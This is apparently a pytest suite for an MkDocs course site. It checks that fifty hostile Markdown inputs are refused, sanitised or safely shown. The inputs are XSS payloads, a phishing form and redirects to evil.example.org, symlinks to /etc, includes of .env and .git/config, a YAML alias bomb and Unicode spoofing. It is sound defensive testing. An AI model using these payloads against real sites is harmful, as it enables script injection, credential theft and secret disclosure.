"""Fifty hostile inputs: refused with one line that names the place, made harmless, or simply shown.

The table is ``REFUSED``, ``HARMLESS`` and ``SHOWN``, numbered one to fifty between them. A refusal is a strict build that
leaves the old site as it was. What is harmless is built with the check overruled, since a course team may do so.
"""

from __future__ import annotations

import json
import logging
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from conftest import ROOT
from mkdocs.commands.build import build
from mkdocs.config import load_config
from mkdocs.exceptions import Abort
from selectolax.lexbor import LexborHTMLParser

HOME = "# Home\n"
CYRILLIC_A = "\u0430"


@dataclass(frozen=True)
class Input:
    """Files of a course, relative to docs/, and what is expected of them: a line of the check, or elements of the page."""

    number: int
    what: str
    files: dict[str, str | bytes]
    expected: str = ""
    prepare: Callable[[Path], None] = field(default=lambda docs: None)

    def __str__(self) -> str:
        return f"{self.number}-{self.what}"


def page(number: int, what: str, text: str | bytes, expected: str = "") -> Input:
    return Input(number, what, {f"en/x{number}.md": text}, expected)


def link(target: str) -> Callable[[Path], None]:
    return lambda docs: (docs / "en/link").symlink_to(target)


QUESTION = "# A\n\n/// quiz | B\n    attrs: {{id: b}}\n\n{options}\n///\n"

REFUSED = [
    page(1, "windows-1251", "# Привет\n".encode("cp1251"), "docs/en/x1.md:1:3: error P001"),
    page(2, "utf-16", "\ufeff# A\n".encode("utf-16-le"), "docs/en/x2.md:1:1: error P001"),
    page(3, "truncated-utf-8", "# A\n\né".encode()[:-1], "docs/en/x3.md:3:1: error P001"),
    page(4, "overlong-utf-8", b"# A\n\n\xc0\xaf\n", "docs/en/x4.md:3:1: error P001"),
    page(5, "nul", "# A\n\nb\0c\n", "docs/en/x5.md:3:2: error C001"),
    page(9, "bidi-override-in-prose", "# A\n\nb \u202ec\n", "docs/en/x9.md:3:3: error S043"),
    page(
        10,
        "isolate-in-an-option",
        QUESTION.format(options="- [ ] \u2066c\n- [x] d\n"),
        "docs/en/x10.md:6:7: error S043",
    ),
    page(11, "zero-width-in-an-id", "# A {#b\u200bc}\n", "docs/en/x11.md:1:8: error C003"),
    page(
        13,
        "mixed-scripts-in-code",
        f"# A\n\n```python\n# это комментарий\nb{CYRILLIC_A}tch = 1\n```\n",
        "docs/en/x13.md:5:1: error C004",
    ),
    Input(
        14,
        "nfc-and-nfd",
        {f"en/{unicodedata.normalize(form, 'é')}.md": HOME for form in ("NFC", "NFD")},
        f"docs/en/{unicodedata.normalize('NFC', 'é')}.md:1:1: error D002",
    ),
    page(17, "empty", "", "docs/en/x17.md:1:1: error P010"),
    page(18, "front-matter-alone", "---\ntitle: A\n---\n", "docs/en/x18.md:4:1: error P010"),
    page(
        22,
        "nested-lists",
        "# A\n\n" + "".join(f"{'    ' * depth}- b\n" for depth in range(300)),
        "docs/en/x22.md:35:1: error P009",
    ),
    page(23, "twenty-megabytes", "# A\n\n" + "b c d\n" * 3_500_000, "docs/en/x23.md:1:1: error P008"),
    page(
        25,
        "alias-bomb",
        "---\na: &a [b, b]\n"
        + "".join(f"{n}: &{n} [*{p}, *{p}]\n" for p, n in zip("acdefg", "cdefgh", strict=True))
        + "---\n# A\n",
        "docs/en/x25.md:3:8: error P002",
    ),
    page(
        26,
        "five-thousand-options",
        QUESTION.format(options="- [x] right\n" + "".join(f"- [ ] {number}\n" for number in range(5000))),
        "docs/en/x26.md:3:1: error Q012",
    ),
    Input(43, "link-to-a-file", {}, "docs/en/link:1:1: error D001", link("/etc/hostname")),
    Input(44, "link-to-a-folder", {}, "docs/en/link:1:1: error D001", link("/etc")),
    Input(45, "link-in-a-circle", {}, "docs/en/link:1:1: error D001", link("..")),
    page(46, "include-above", '# A\n\n--8<-- "../secret.md"\n', "docs/en/x46.md:3:1: error I001"),
    page(47, "include-secret", '# A\n\n--8<-- ".git/config"\n\n--8<-- ".env"\n', "docs/en/x47.md:3:1: error I001"),
    Input(48, "theme-file", {"assets/javascripts/a.js": "alert(1)"}, "docs/assets/javascripts/a.js:1:1: error D004"),
    Input(49, "upper-and-lower-case", {"en/Foo.md": HOME, "en/foo.md": HOME}, "docs/en/foo.md:1:1: error D002"),
    Input(50, "page-and-folder", {"en/foo.md": HOME, "en/foo/index.md": HOME}, "docs/en/foo/index.md:1:1: error D003"),
]

SHOWN = [
    page(6, "byte-order-mark", "\ufeff# A\n\nshown\n".encode(), "shown"),
    page(7, "carriage-returns", b"# A\r\n\r\n- shown\r\n- too\r\n", "shown too"),
    page(8, "control-characters", "# A\n\nb\x02c\x03 \x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03\n", "bc wzxhzdk:0 klzzwxh:0001"),
    page(12, "joiners-in-persian", "# A\n\nمی\u200cخواهم\n", "می\u200cخواهم"),
    page(15, "emoji-in-a-title", "# A 👩\u200d💻\n\nb\n", "A 👩\u200d💻"),
    Input(16, "right-to-left", {"ar/_lang.yml": "name: العربية\n", "ar/index.md": "# مرحبا\n\nالنص\n"}, "النص"),
    page(19, "brackets", f"# A\n\n{'[' * 20_000}\n", "[" * 20_000),
    page(20, "pictures", f"# A\n\n{'![' * 20_000}\n", "![" * 20_000),
    page(21, "cdata", f"# A\n\n{'<![CDATA[' * 5_000}\n", "<![CDATA[" * 5_000),
    page(24, "ten-thousand-headings", "# A\n\n" + "".join(f"## H{number}\n\n" for number in range(10_000)), "H9999"),
]

HARMLESS = [
    page(27, "script", "# A\n\nb <script>alert(1)</script>\n\n<script>alert(2)</script>\n"),
    page(28, "onerror", '# A\n\n<img src="b.png" alt="" onerror="alert(1)">\n'),
    page(29, "javascript-link", '# A\n\n[b](javascript:alert(1)) <a href="javascript:alert(2)">c</a>\n'),
    page(30, "javascript-with-a-tab", "# A\n\n[b](java&#9;script:alert(1)) <a href='java\tscript:alert(2)'>c</a>\n"),
    page(31, "data-link", "# A\n\n[b](data:text/html,<script>alert(1)</script>)\n"),
    page(32, "onclick-through-attributes", "# A {onclick=alert(1)}\n\nb\n{: onclick=alert(2) }\n\n[c](#a){onclick=alert(3)}\n"),
    page(33, "svg", "# A\n\n<svg onload=alert(1)></svg>\n\nb <svg/onload=alert(2)>\n"),
    page(34, "srcdoc", '# A\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>\n'),
    page(35, "frame", '# A\n\n<iframe src="https://evil.example.org/"></iframe>\n'),
    page(36, "form", '# A\n\n<form action="https://evil.example.org/"><input name="password"></form>\n'),
    page(37, "base", '# A\n\n<base href="https://evil.example.org/">\n\nb\n'),
    page(38, "refresh", '# A\n\n<meta http-equiv="refresh" content="0;url=https://evil.example.org/">\n\nb\n'),
    page(39, "settings-of-the-theme", '# A\n\n<div id="__config">{"base": "/elsewhere/"}</div>\n\n## B {#__config}\n'),
    page(
        40,
        "script-in-a-title",
        "---\ntitle: '<script>alert(1)</script>'\ndescription: '\"><script>alert(2)</script>'\n---\n\n# A\n",
    ),
    page(41, "end-of-script-in-a-quiz", QUESTION.format(options="- [ ] </script><script>alert(1)</script>\n- [x] d\n")),
    page(42, "open-block", "# A\n\n<div>\n\nb\n"),
]


def test_there_are_fifty():
    assert sorted(given.number for given in [*REFUSED, *SHOWN, *HARMLESS]) == list(range(1, 51))


@pytest.fixture
def said() -> Iterator[list[str]]:
    """What MkDocs and the plugin log from WARNING on."""
    lines: list[str] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(record.getMessage())

    handler = Keep(logging.WARNING)
    log = logging.getLogger("mkdocs")
    log.addHandler(handler)
    yield lines
    log.removeHandler(handler)


def write(root: Path, given: list[Input]) -> Path:
    """A course with these files and this repository's configuration; returns its folder."""
    files: dict[str, str | bytes] = {"en/_lang.yml": "name: English\n", "en/index.md": HOME}
    for one in given:
        files |= one.files
    for name, text in files.items():
        path = root / "docs" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
    for one in given:
        one.prepare(root / "docs")
    nav = [name.removeprefix("en/") for name in files if name.startswith("en/") and name.endswith(".md")]
    before, _, rest = (ROOT / "mkdocs.yml").read_text("utf-8").partition("\nnav:\n")
    config = f"{before}\nnav: {json.dumps(nav)}\n\n{rest.partition(chr(10) * 2)[2]}"
    config = config.replace("\n  - search\n", "\n")  # Material's index looks for each of ten thousand headings in all of them
    (root / "mkdocs.yml").write_text(config.replace("custom_dir: overrides", f"custom_dir: {ROOT / 'overrides'}"), "utf-8")
    return root


def build_site(root: Path, *, strict: bool) -> Path:
    config = load_config(str(root / "mkdocs.yml"), strict=strict)
    config.plugins.on_startup(command="build", dirty=False)
    try:
        build(config)
    finally:
        config.plugins.on_shutdown()
    return Path(config.site_dir)


@pytest.mark.parametrize("given", REFUSED, ids=str)
def test_it_is_refused_with_its_place_and_the_old_site_stays(given, tmp_path, said):
    root = write(tmp_path, [given])
    old = root / "site/index.html"
    old.parent.mkdir()
    old.write_text("old")
    with pytest.raises(Abort, match=r"^Nothing was built: \d+ errors?, \d+ warnings?\.$"):
        build_site(root, strict=True)
    assert given.expected in [line[: len(given.expected)] for line in said]
    assert [path.name for path in (root / "site").iterdir()] == ["index.html"]
    assert old.read_text() == "old"


def test_what_only_looks_hostile_is_shown(tmp_path, said):
    site = build_site(write(tmp_path, SHOWN), strict=True)
    assert said == []
    for given in SHOWN:
        name = "ar" if given.number == 16 else f"x{given.number}"
        tree = LexborHTMLParser((site / name / "index.html").read_text("utf-8"))
        assert given.expected in " ".join(tree.css_first("article").text().replace("\xb6", "").split()), given
    assert LexborHTMLParser((site / "ar/index.html").read_text("utf-8")).css_first("body").attributes["dir"] == "rtl"


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """All of them on one site, built although the check has named them."""
    return build_site(
        write(tmp_path_factory.mktemp("harmless"), [*HARMLESS, Input(0, "plain", {"en/plain.md": "# A\n\nb\n"})]), strict=False
    )


_ELEMENTS = ("script", "style", "base", "meta", "link", "iframe", "object", "embed", "svg", "form:not(.quiz)")
_SCHEMES = ("javascript:", "data:", "vbscript:")


def active(tree: LexborHTMLParser) -> list[str | None]:
    """What of an article could run, load or lead away."""
    found = [node.html for name in _ELEMENTS for node in tree.css(f"article {name}")]
    for node in tree.css("article *"):
        for name, value in node.attributes.items():
            address = "".join((value or "").split()).lower() if name in ("href", "src", "action", "formaction") else ""
            if name.startswith("on") or name == "srcdoc" or address.startswith(_SCHEMES):
                found.append(node.html)
    return found


def scripts(tree: LexborHTMLParser) -> set[str]:
    """The inline scripts of a page that run: those with a type other than 'module' are data."""
    return {node.text() for node in tree.css("script:not([src])") if node.attributes.get("type") in (None, "module")}


@pytest.mark.parametrize("given", HARMLESS, ids=str)
def test_it_is_made_harmless(given, harmless):
    tree = LexborHTMLParser((harmless / f"x{given.number}/index.html").read_text("utf-8"))
    plain = LexborHTMLParser((harmless / "plain/index.html").read_text("utf-8"))
    assert active(tree) == []
    assert scripts(tree) == scripts(plain)
    assert tree.css("article #__config") == []
    assert "evil.example.org" not in tree.html
    assert tree.css_first("article h1") is not None
    assert tree.css_first("section.furniture").parent.attributes["class"] == "md-content"  # the article has ended


@pytest.mark.parametrize("given", [given for given in HARMLESS if given.number not in (40, 41)], ids=str)
def test_the_check_names_what_is_made_harmless(given, tmp_path, said):
    with pytest.raises(Abort):
        build_site(write(tmp_path, [given]), strict=True)
    assert f"docs/en/x{given.number}.md:" in said[0]
